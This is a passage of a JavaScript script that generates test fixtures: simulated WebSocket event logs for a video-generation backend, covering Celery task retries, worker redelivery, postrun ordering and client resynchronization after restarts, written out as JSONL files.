  const task = 'celery-0e1d2c3b-4a59-4687-9a6b-5c4d3e2f1a0b';
  log.event(P, 'generation.started', { node_id: node, task_id: task, command_id: 'cmd-6e5d4c3b2a1908f7e6d5c4b3', scene_id: 'S002', shot_id: 'P001' });
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'PENDING', progress: 0, message: 'Queued on gpu-worker-1' });
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'STARTED', progress: 0, message: 'Loading model', step: 'Loading model' }, 900);
  celerySteps(log, P, { task, node, total: 6, to: 3 });
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'RETRY', message: 'Retry in 5s: ConnectionError: model store unreachable' }, 400);
  // The retried run: STARTED again, then PROGRESS from step 1; a PENDING published late by the
  // API (the retry's re-queue) changes nothing.
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'STARTED', progress: 0, message: 'Loading model', step: 'Loading model' }, 5000);
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'PENDING', progress: 0, message: 'Queued on gpu-worker-1' });
  celerySteps(log, P, { task, node, total: 6, to: 1 });
  return withServerTime(log.text());
}

/**
 * celery-redelivery: the worker is killed at step 4 of 6 (acks_late + reject_on_worker_lost);
 * the broker redelivers the task with the same id: STARTED again, then PROGRESS from step 1.
 * The Cinematographer re-plans on the new attempt and reports less than before.
 */
function celeryRedelivery() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-03T09:30:00.000Z');
  sessionInit(log, { session: 'ws-1772530200000-d5f8g2h4j', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  const node = 'node-t2i-d9a4';
  const task = 'celery-7a6b5c4d-3e2f-4a1b-8c9d-0e1f2a3b4c5d';
  log.event(P, 'generation.started', { node_id: node, task_id: task, command_id: 'cmd-1a2b3c4d5e6f708192a3b4c5', scene_id: 'S002', shot_id: 'P002' });
  log.event(P, 'agent.assigned', { agent_type: 'Cinematographer', task_id: task, node_id: node, task_description: 'Frame P002: over-the-shoulder' });
  log.event(P, 'agent.progress', { agent_type: 'Cinematographer', task_id: task, node_id: node, progress: 98, current_step: 'Lens chosen: 50mm' });
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'STARTED', progress: 0, message: 'Loading model', step: 'Loading model' }, 900);
  celerySteps(log, P, { task, node, total: 6, to: 4 });
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'STARTED', progress: 0, message: 'Redelivered to gpu-worker-3', step: 'Loading model' }, 30000);
  log.event(P, 'agent.progress', { agent_type: 'Cinematographer', task_id: task, node_id: node, progress: 92, current_step: 'Re-checking the framing on gpu-worker-3' });
  celerySteps(log, P, { task, node, total: 6, to: 2 });
  return withServerTime(log.text());
}

/**
 * celery-postrun: the task body publishes generation.completed with the take; Celery's
 * task_postrun signal fires after the body, so its SUCCESS (with the result) comes last.
 */
function celeryPostrun() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-03T10:00:00.000Z');
  sessionInit(log, { session: 'ws-1772532000000-p2o4s6t8v', instance: 'backend-3f9c2a1b', subscriptions: [P] });
  const node = 'node-t2i-p0s7';
  const task = 'celery-3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f';
  log.event(P, 'generation.started', { node_id: node, task_id: task, command_id: 'cmd-9b8a7c6d5e4f302112a3b4c5', scene_id: 'S002', shot_id: 'P003' });
  log.event(P, 'task.progress', { task_id: task, node_id: node, state: 'STARTED', progress: 0, message: 'Loading model', step: 'Loading model' }, 900);
  celerySteps(log, P, { task, node, total: 6, to: 6 });
  const t = take(P, 'S002', 'P003', 1, { created_at: '2026-03-03T10:00:06.000Z' });
  log.event(P, 'generation.completed', { node_id: node, task_id: task, output_path: t.path, thumbnail: t.thumbnail, takes: [t] }, 800);
  log.event(P, 'task.progress', {
    task_id: task,
    node_id: node,
    state: 'SUCCESS',
    progress: 100,
    result: { output_path: t.path, take_id: t.id, seed: 99, steps: 6, duration_s: 4.2 },
  }, 50);
  return withServerTime(log.text());
}

// ---------------------------------------------------------------------------------------------
// Resynchronization (docs/ARCHITECTURE.md, "Resynchronization").

const RESYNC_CAPABILITIES = ['ack', 'seq', 'replay', 'snapshot', 'task_status'];

/**
 * resync-snapshot: two runs under way when the in-memory backend restarts (its numbering reset);
 * the client resumes and gets a project.snapshot at seq 3, lower than its position: node-a's run
 * completed while it was away (with its takes), node-b's is still running (another attempt),
 * node-c's run is unknown to the new process. A copy of an event the snapshot includes follows
 * (a duplicate), then the stream continues at seq 4.
 */
function resyncSnapshot() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-05T11:00:00.000Z');
  sessionInit(log, { session: 'ws-1772708400000-s1n2p3s4h', instance: 'backend-1a1a1a1a', subscriptions: [P], capabilities: RESYNC_CAPABILITIES });
  const runs = [
    ['node-rs-a', 'celery-rs-a-0001'],
    ['node-rs-b', 'celery-rs-b-0001'],
    ['node-rs-c', 'celery-rs-c-0001'],
  ];
  for (const [node, task] of runs) log.event(P, 'generation.started', { node_id: node, task_id: task, scene_id: 'S003', shot_id: 'P001' });
  for (const [node, task] of runs) celerySteps(log, P, { task, node, total: 10, to: 3 });
  log.frame('system.shutdown', { reason: 'restart', restart_in_ms: 500, instance_id: 'backend-1a1a1a1a' });
  log.frame('session.restored', {
    session_id: 'ws-1772708400000-s1n2p3s4h',
    reconnect: true,
    instance_id: 'backend-2b2b2b2b',
    capabilities: RESYNC_CAPABILITIES,
    subscriptions: [P],
  }, 2000);
  const takes = [1, 2].map((n) => ({ ...take(P, 'S003', 'P001', n, { created_at: `2026-03-05T10:5${n}:00.000Z` }), node_id: 'node-rs-a' }));
  log.frame('project.snapshot', {
    project_id: P,
    at_seq: 3,
    nodes: [
      { node_id: 'node-rs-a', status: 'completed', task_id: 'celery-rs-a-0001', progress: 100, output_path: takes[1].path, thumbnail: takes[1].thumbnail, current_take: 2, scene_id: 'S003', shot_id: 'P001' },
      { node_id: 'node-rs-b', status: 'generating', task_id: 'celery-rs-b-0001', progress: 18, step: 'Denoising', current_step: 2, total_steps: 10, message: 'Denoising 2/10' },
      { node_id: 'node-rs-d', status: 'idle' },
    ],
    tasks: [{ task_id: 'celery-rs-b-0001', node_id: 'node-rs-b', state: 'PROGRESS', progress: 18, step: 'Denoising', current_step: 2, total_steps: 10, message: 'Denoising 2/10', attempt: 2 }],
    takes,
    agents: [{ agent_type: 'Cinematographer', status: 'working', task_id: 'celery-rs-b-0001', node_id: 'node-rs-b', current_task: 'Frame P001', progress: 40 }],
    narrative: { structure_type: 'three-act', scene_id: 'S003', shot_id: 'P001', current_beat: 'midpoint', completed_beats: ['opening-image', 'midpoint'] },
  });
  log.resetSeqs();
  log.skip(P, 2);
  // seq 3, already in the snapshot: a duplicate.
  log.event(P, 'task.progress', { task_id: 'celery-rs-b-0001', node_id: 'node-rs-b', state: 'PROGRESS', progress: 18, message: 'Denoising 2/10', step: 'Denoising', current_step: 2, total_steps: 10 });
  celerySteps(log, P, { task: 'celery-rs-b-0001', node: 'node-rs-b', total: 10, from: 3, to: 4 });
  return withServerTime(log.text());
}

/**
 * resync-status: after a reconnect the client asked query_tasks for its three running tasks:
 * node-st-a's was redelivered (STARTED again, attempt 2), node-st-b's finished while the client
 * was away (SUCCESS with its result), node-st-c's is UNKNOWN to the backend (lost at once). A
 * later frame of node-st-c's run brings it back.
 */
function resyncStatus() {
  const P = 'proj-aurora';
  const log = recorder('2026-03-05T12:00:00.000Z');
  sessionInit(log, { session: 'ws-1772712000000-s7t8a9t0s', instance: 'backend-3c3c3c3c', subscriptions: [P], capabilities: RESYNC_CAPABILITIES });
  const runs = [
    ['node-st-a', 'celery-st-a-0001'],
    ['node-st-b', 'celery-st-b-0001'],
    ['node-st-c', 'celery-st-c-0001'],
  ];
  for (const [node, task] of runs) log.event(P, 'generation.started', { node_id: node, task_id: task });
  for (const [node, task] of runs) celerySteps(log, P, { task, node, total: 6, to: 4 });
  log.frame('session.restored', {
    session_id: 'ws-1772712000000-s7t8a9t0s',
    reconnect: true,
    instance_id: 'backend-3c3c3c3c',
    capabilities: RESYNC_CAPABILITIES,
    subscriptions: [P],
  }, 3000);
  log.frame('task.status', { project_id: P, task_id: 'celery-st-a-0001', node_id: 'node-st-a', state: 'STARTED', progress: 0, message: 'Redelivered to gpu-worker-2', step: 'Loading model', attempt: 2 });
  log.frame('task.status', { project_id: P, task_id: 'celery-st-b-0001', node_id: 'node-st-b', state: 'SUCCESS', progress: 100, result: { output_path: '/media/proj-aurora/S001/P001/take-001.png', seed: 7 } });
  log.frame('task.status', { project_id: P, task_id: 'celery-st-c-0001', state: 'UNKNOWN' });
  celerySteps(log, P, { task: 'celery-st-c-0001', node: 'node-st-c', total: 6, from: 5, to: 5 });
  return withServerTime(log.text());
}

const FIXTURES = {
  'generation-success': generationSuccess,
  'generation-failure': generationFailure,
  'generation-cancel': generationCancel,
  'agent-pipeline': agentPipeline,
  'narrative-progression': narrativeProgression,
  'bad-frames': badFrames,
  'distributed-events': distributedEvents,
  'celery-retry': celeryRetry,
  'celery-redelivery': celeryRedelivery,
  'celery-postrun': celeryPostrun,
  'resync-snapshot': resyncSnapshot,
  'resync-status': resyncStatus,
};

mkdirSync(OUT, { recursive: true });
for (const [name, make] of Object.entries(FIXTURES)) {
  const text = make();
  writeFileSync(join(OUT, `${name}.jsonl`), text);
  console.log(`${name}.jsonl: ${text.trim().split('\n').length} frames`);
}
